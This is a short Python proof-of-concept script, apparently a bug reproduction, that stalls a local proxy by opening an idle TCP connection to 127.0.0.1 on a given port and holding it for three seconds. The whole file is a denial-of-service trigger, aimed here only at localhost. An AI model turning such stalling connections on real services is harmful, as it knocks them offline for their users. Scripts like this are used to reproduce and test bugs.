"""Stop a proxy without sending a byte: python attack.py PORT"""

import socket
import sys
import time

port = int(sys.argv[1])
with socket.create_connection(("127.0.0.1", port), timeout=3):
    time.sleep(3)
